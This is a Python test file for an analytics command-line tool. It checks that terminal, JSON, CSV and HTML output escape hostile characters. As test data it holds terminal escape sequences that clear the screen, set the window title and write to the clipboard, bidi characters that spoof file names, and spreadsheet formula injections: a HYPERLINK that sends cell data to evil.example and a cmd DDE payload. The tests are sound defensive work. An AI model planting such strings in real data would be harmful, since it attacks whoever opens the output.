"""Names and messages that are attacks on whoever reads them: in no output are they more than text."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import psycopg
import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console
from typer.testing import CliRunner

from bcp_analytics import migrate as migrations
from bcp_analytics._render import tables
from bcp_analytics._render.visible import visible, visible_json, visible_line
from bcp_analytics.cli._app import app
from bcp_analytics.errors import BcpAnalyticsError
from bcp_analytics.mcp._proxy import say as proxy_say
from bcp_analytics.report import _terminal
from bcp_analytics.report._collect import Section, Total, collect

pytestmark = pytest.mark.any_target("what is printed has left the database")

DANGEROUS = frozenset(
    map(
        chr,
        (
            *(code for code in range(0x20) if chr(code) not in "\n\t"),
            *range(0x7F, 0xA0),
            0x061C,
            *(0x200E, 0x200F, 0x2028, 0x2029),
            *range(0x202A, 0x202F),
            *range(0x2066, 0x206A),
        ),
    )
)
# Clears the screen, sets the title, writes to the clipboard; turns text round; begins a line.
EVIL = "\x1b[2J\x1b]0;title\x07\x9b31m\x1b]52;c;aGk=\x07\u202egnp.exe\u2066\u2028fake\u2029\x85\x7f\r"
TEXT = st.text(st.one_of(st.characters(), st.sampled_from(sorted(DANGEROUS))), max_size=60)


def dangers(text: str) -> set[str]:
    return DANGEROUS & set(text)


# ---- the function


@given(TEXT)
def test_nothing_dangerous_survives_and_nothing_else_changes(text: str) -> None:
    for shown in (visible(text), visible_line(text)):
        assert not dangers(shown)
        shown.encode()
        assert visible(shown) == shown
    assert "\n" not in visible_line(text)
    assert "\t" not in visible_line(text)
    kept = "".join(c for c in text if c not in DANGEROUS and not "\ud800" <= c <= "\udfff")
    assert visible(kept) == kept
    position = 0
    for character in kept:
        position = visible(text).index(character, position) + 1


@given(st.recursive(TEXT, lambda inner: st.dictionaries(TEXT, inner) | st.lists(inner), max_leaves=8))
def test_json_stays_the_same_json(value: Any) -> None:
    written = visible_json(json.dumps(value, ensure_ascii=False))
    assert not dangers(written)
    written.encode()
    assert json.loads(written) == value


def test_how_it_is_shown() -> None:
    assert visible("\x1b[31m\x9b\u202ea\u2028\nä\t€😀") == "\\x1b[31m\\x9b\\u202ea\\u2028\nä\t€😀"
    assert visible_line("a\nb\tc") == "a\\x0ab\\x09c"


# ---- tables, JSON, CSV


@dataclass(frozen=True, slots=True)
class Row:
    name: str
    document: dict[str, Any]
    count: float


ROWS = [Row(EVIL, {EVIL: [EVIL]}, -1.5)]


def test_json_and_csv_of_rows() -> None:
    text = tables.to_json(ROWS)
    assert not dangers(text)
    assert json.loads(text) == [{"name": EVIL, "document": {EVIL: [EVIL]}, "count": -1.5}]
    for spreadsheet in (False, True):
        text = tables.to_csv(ROWS, Row, spreadsheet=spreadsheet)
        assert dangers(text) == {"\r"}
        assert text.count("\r") == text.count("\r\n") == 2
        [_, row] = list(csv.reader(io.StringIO(text, newline="")))
        assert row[0] == visible(EVIL)


def test_a_table_and_its_cells() -> None:
    console = Console(width=400, file=io.StringIO(), color_system=None)
    console.print(tables.to_table(ROWS, Row)[0])
    text = console.file.getvalue()  # type: ignore[attr-defined]
    assert not dangers(text)
    assert r"\x1b[2J\x1b]0;title\x07\x9b31m" in text
    assert r"\u202egnp.exe\u2066\u2028fake\u2029\x85\x7f\x0d" in text
    assert not any(
        dangers(cell) for column in tables.to_cells(ROWS, ("name", "document")) for cell in column.cells
    )


@pytest.mark.parametrize("start", list("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"))
def test_a_spreadsheet_runs_no_formula(start: str) -> None:
    text = start + 'HYPERLINK("http://evil.example?"&A1,"x")'
    rows = [Row(text, {}, -1.5), Row("a=1", {}, 2)]
    plain, quoted = (
        list(csv.reader(io.StringIO(tables.to_csv(rows, Row, spreadsheet=s), newline="")))
        for s in (False, True)
    )
    assert plain[1][0] == visible(text)
    assert quoted[1] == ["'" + visible(text), "{}", "-1.5"]
    assert quoted[2] == ["a=1", "{}", "2"]
    assert tables.csv_rows(["=1"], [], spreadsheet=True) == "'=1\r\n"


# ---- the command line


@pytest.fixture
def evil_db(clean_db: psycopg.Connection[Any], dsn: str, monkeypatch: pytest.MonkeyPatch) -> str:
    """A store with a tool, a message and arguments that are attacks."""
    monkeypatch.setenv("BCP_ANALYTICS_DSN", dsn)
    for name in (EVIL, "=cmd|' /C calc'!A0"):
        clean_db.execute(
            "select bcp.log_tool_usage('bundle', %s, p_success => false, p_duration_ms => 5,"
            " p_session_id => %s, p_user_id => %s, p_error_message => %s)",
            [name, name, name, f"{name} failed"],
        )
        clean_db.execute(
            "select bcp.log_error('error', %s, p_bcp_name => 'bundle', p_tool_name => %s)", [name, name]
        )
    return dsn


def run(*arguments: str, code: int = 0) -> tuple[str, str]:
    # Into a pipe, which has no width, whatever terminal the tests run in.
    result = CliRunner(env={"COLUMNS": None}).invoke(app, list(arguments))
    assert result.exit_code == code, result.output
    return result.stdout, result.stderr


@pytest.mark.usefixtures("evil_db")
@pytest.mark.parametrize("question", ["tool_usage_stats", "failed_calls", "error_analysis"])
def test_query_in_every_format(question: str) -> None:
    for output in ("table", "json", "csv"):
        said, err = run("query", question, "--format", output)
        assert "bundle" in said
        assert dangers(said) <= ({"\r"} if output == "csv" else set())
        assert not dangers(err)
        if output == "json":
            assert EVIL in {row["tool_name"] for row in json.loads(said)}
        else:
            assert r"\x1b[2J\x1b]0;title\x07\x9b31m" in said
    said, _ = run("query", question, "--format", "csv", "--spreadsheet")
    assert "'=cmd|' /C calc'!A0" in said
    assert not [cell for row in csv.reader(io.StringIO(said)) for cell in row if cell.startswith("=")]
    assert "goes with --format csv" in run("query", question, "--spreadsheet", code=2)[1]
    assert "--spreadsheet > errors.csv" in run("query", "--help")[0]


@pytest.mark.usefixtures("evil_db")
def test_the_report_in_a_terminal_and_as_a_page(tmp_path: Path) -> None:
    for filters in ((), ("--tool", EVIL)):
        said, _ = run("report", "--since", "1h", *filters)
        assert r"\x1b[2J\x1b]0;title" in "".join(said.split("\n")).replace(" ", "")
        assert not dangers(said)
        run("report", "--since", "1h", *filters, "--html", str(tmp_path / "report.html"))
        page = (tmp_path / "report.html").read_text()
        assert r"\x1b[2J" in page
        assert not dangers(page)


def test_the_reports_own_words(evil_db: str) -> None:
    with psycopg.connect(evil_db) as conn:
        now = datetime.now(UTC)
        report = collect(
            conn,
            since=now.replace(year=now.year - 1),
            until=now,
            time_zone="UTC",
            zone=UTC,
            bcp_name=None,
            tool_name=None,
        )
    report.totals.append(Total("x", EVIL, EVIL))
    report.sections.append(Section("x", [], (), "nothing", EVIL))
    console = Console(width=120, file=io.StringIO(), color_system=None)
    _terminal.show(report, console)
    assert not dangers(console.file.getvalue())  # type: ignore[attr-defined]


@pytest.mark.parametrize("debug", [(), ("--debug",)])
def test_errors(monkeypatch: pytest.MonkeyPatch, debug: tuple[str, ...]) -> None:
    def fail(*_: object, **__: object) -> None:
        raise BcpAnalyticsError(f"It failed: {EVIL}", hint=EVIL)

    monkeypatch.setattr(migrations, "status", fail)
    _, err = run(*debug, "status", "--dsn", "", code=1)
    assert r"\x1b[2J" in err
    assert not dangers(err)
    assert ("Traceback" in err) == bool(debug)


@pytest.mark.parametrize(
    "arguments",
    [[EVIL], [f"--{EVIL}"], ["query", EVIL], ["query", f"--{EVIL}"], ["spool", EVIL], ["query", "x", EVIL]],
)
def test_what_was_typed(arguments: list[str]) -> None:
    _, err = run(*arguments, code=2)
    assert "2J" in err
    assert not dangers(err)


def test_progress_lines(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    def tell(_: str, *, progress: Any) -> Any:
        progress(f"applying {EVIL}\nDone")
        raise BcpAnalyticsError("enough")

    monkeypatch.setattr(migrations, "migrate", tell)
    _, err = run("migrate", "--dsn", "", code=1)
    assert not dangers(err)
    assert len(err.splitlines()) == 2
    proxy_say(EVIL)
    assert not dangers(capsys.readouterr().err)
